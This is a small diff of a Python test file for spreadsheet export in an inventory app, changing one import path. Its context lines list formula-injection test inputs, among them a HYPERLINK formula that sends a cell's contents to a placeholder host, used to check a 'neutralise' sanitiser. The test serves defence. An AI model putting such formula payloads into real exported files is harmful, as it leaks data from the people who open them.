@@ -11,7 +11,7 @@ from openpyxl import load_workbook
 from app.exports import csv_writer, neutralise
 from app.users.roles import Role
 from inventory.models import IntakeSource, ItemCategory
-from inventory.services.ressourcerie import IntakeData, record_intake
+from inventory.ressourcerie.items import IntakeData, record_intake
 
 EVIL = ['=HYPERLINK("http://x/?"&A1,"clic")', "+33 6 12", "-2+3", "@SUM(A1)", "\tcalc", "\r=1"]
 
